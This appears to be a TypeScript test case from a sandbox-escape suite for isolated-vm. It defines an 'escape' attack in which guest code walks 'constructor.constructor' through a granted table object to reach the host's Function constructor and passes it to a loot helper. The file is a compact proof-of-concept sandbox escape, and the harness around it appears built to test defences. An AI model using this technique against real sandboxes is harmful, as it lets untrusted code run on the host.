import { attack } from '../attack.ts';

/** A path that the guest chose is walked to the host's Function; the result comes back alive (measured on isolated-vm 7.0.1). */
export const escape = attack({
	grants: ['table'],
	source: `
		const F = await table.walk('constructor.constructor');
		return loot(F);
	`,
});
